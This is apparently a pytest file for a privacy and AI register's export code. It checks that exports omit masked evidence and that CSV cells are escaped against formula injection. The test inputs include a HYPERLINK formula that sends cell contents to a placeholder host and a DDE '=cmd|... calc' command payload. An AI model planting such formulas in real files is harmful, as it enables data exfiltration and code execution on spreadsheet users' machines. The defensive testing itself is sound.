"""What every export shares: no finding evidence, CSV cells that never run as formulas."""

from __future__ import annotations

import csv
import io

from registre.catalog.exports.registry import ExportFormat, ExportKind
from tests.catalog.exports.exports_seed import MASKED, Seeded, export


def test_no_export_contains_finding_evidence(seeded: Seeded) -> None:
    contents = [
        export(seeded, ExportKind.ART30).content,
        export(seeded, ExportKind.ART30, ExportFormat.JSON).content,
        export(seeded, ExportKind.INVENTORY, ExportFormat.JSON).content,
        export(seeded, ExportKind.ANNEX_VIII, ai_system_id=seeded.triage_id).content,
        export(seeded, ExportKind.PIA, processing_activity_id=seeded.aides_id).content,
    ]
    for content in contents:
        assert MASKED not in content and "j***@" not in content


def test_csv_cells_never_run_as_spreadsheet_formulas() -> None:
    from registre.catalog.exports.common import ExportFormat, csv_text

    text = csv_text(
        ["nom", "montant"],
        [['=HYPERLINK("http://x/?"&A1,"Paie")', 12], ["+33 6 12", -3], ["Paie", None]],
        ExportFormat.CSV_EXCEL,
    )
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][0] == '\'=HYPERLINK("http://x/?"&A1,"Paie")'
    assert rows[2] == ["'+33 6 12", "-3"]  # numbers stay numbers
    assert rows[3] == ["Paie", ""]


def test_a_formula_behind_the_other_separator_stays_inside_a_quoted_cell() -> None:
    from registre.catalog.exports.common import ExportFormat, csv_text

    # Excel in French splits a .csv on ';' even when it was written with ','
    text = csv_text(["nom"], [["Chatbot;=cmd|' /C calc'!A0"]], ExportFormat.CSV)
    assert text.splitlines()[1] == "\"Chatbot;=cmd|' /C calc'!A0\""
